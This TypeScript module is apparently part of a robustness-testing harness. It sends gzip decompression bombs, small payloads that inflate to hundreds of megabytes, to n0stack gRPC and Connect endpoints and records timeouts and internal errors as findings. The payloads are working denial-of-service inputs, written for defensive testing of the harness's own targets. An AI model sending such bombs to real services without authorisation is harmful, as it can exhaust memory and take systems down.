import { gzipSync } from "node:zlib";
import { type Arena, type Attack, untilOver } from "../attack.ts";
import { type HttpClient, newHttpClient } from "../http.ts";
import type { TargetName } from "../target.ts";
import { codeOf, envelope, type Way } from "../wire.ts";

const WIDTH = 12;
const TIMEOUT_MS = 20_000;
const MILLION = 1_000_000;

/** A message of 1: an unknown field, a million times; 2: an empty entry of a list, eight million times, which fits into the bytes of a survey; 3: 100 MB of zeros. */
const BODIES: Readonly<Record<string, () => Buffer>> = {
  "unknown fields": () => Buffer.alloc(4 * MILLION, Buffer.from([0xa2, 0x1f, 1, 0x41])),
  "empty entries": () => Buffer.alloc(16 * MILLION, Buffer.from([0x0a, 0])),
  zeros: () => Buffer.alloc(100 * MILLION),
  "groups in groups": () => Buffer.alloc(MILLION, 0x0b),
  "one long string": () =>
    Buffer.concat([Buffer.from([0x0a, 0x80, 0x89, 0x7a]), Buffer.alloc(2_000_000, 0x41)]),
};

const PATHS: readonly (readonly [
  path: string,
  isStream: boolean,
  targets: readonly TargetName[],
])[] = [
  ["/grpc.health.v1.Health/Watch", true, ["api", "agent"]],
  ["/grpc.health.v1.Health/Check", false, ["api", "agent"]],
  ["/grpc.reflection.v1.ServerReflection/ServerReflectionInfo", true, ["api"]],
  ["/n0stack.verify.v1alpha1.VerifyService/Verify", false, ["api"]],
  ["/n0stack.pool.v0.NetworkService/ListNetworks", false, ["api"]],
  ["/n0stack.provisioning.v0.VirtualMachineService/CreateVirtualMachine", false, ["api"]],
  ["/n0stack.agent.v1alpha1.SurveyAgentService/Survey", false, ["agent"]],
];

/** A few kilobytes that become hundreds of megabytes, with the token and without it. */
export const bombs: Attack = {
  name: "bombs",
  weight: 1,
  async run(arena, round) {
    const packed = Object.entries(BODIES).map(([how, make]) => [how, gzipSync(make())] as const);
    const clients = new Map<TargetName, HttpClient>(
      Object.values(arena.targets).map(({ name, url }) => [name, newHttpClient(url)]),
    );
    const count = await untilOver(round, WIDTH, async (index) => {
      const [how, body] = packed[index % packed.length]!;
      const [path, isStream, names] = round.dice.pick(PATHS);
      const name = round.dice.pick(names);
      const way: Way = {
        protocol: round.dice.pick(["connect", "grpc"]),
        encoding: "proto",
        http: 2,
      };
      const token = round.dice.chance(0.5) ? arena.targets[name].token : undefined;
      await send(arena, clients.get(name)!, { name, path, isStream, way, body, how, token });
    });
    for (const client of clients.values()) client.close();
    return count;
  },
};

interface Bomb {
  readonly name: TargetName;
  readonly path: string;
  readonly isStream: boolean;
  readonly way: Way;
  readonly body: Buffer;
  readonly how: string;
  readonly token: string | undefined;
}

async function send({ findings }: Arena, client: HttpClient, bomb: Bomb): Promise<void> {
  const { way, isStream, path, body, how, name, token } = bomb;
  const isFramed = way.protocol !== "connect" || isStream;
  const type = way.protocol === "connect" ? (isStream ? "connect+proto" : "proto") : "grpc";
  const answer = await client.send(way.http, {
    method: "POST",
    path,
    timeoutMs: isStream ? 1_000 : TIMEOUT_MS,
    headers: {
      "content-type": `application/${type}`,
      [way.protocol === "connect"
        ? isStream
          ? "connect-content-encoding"
          : "content-encoding"
        : "grpc-encoding"]: "gzip",
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    },
    body: isFramed ? envelope(body, 1) : body,
  });
  const fault = `${how}, gzipped, to ${name} ${path}`;
  if (answer === "timed out") {
    if (!isStream)
      findings.add({ fault: `no answer within ${TIMEOUT_MS} ms: ${fault}`, seen: way.protocol });
    return;
  }
  if ("broke" in answer) return;
  const code = codeOf(way, isStream, answer);
  if (code !== undefined && ["internal", "unknown"].includes(code)) {
    findings.add({ fault: `${code}: ${fault}`, seen: `over ${way.protocol}` });
  }
}
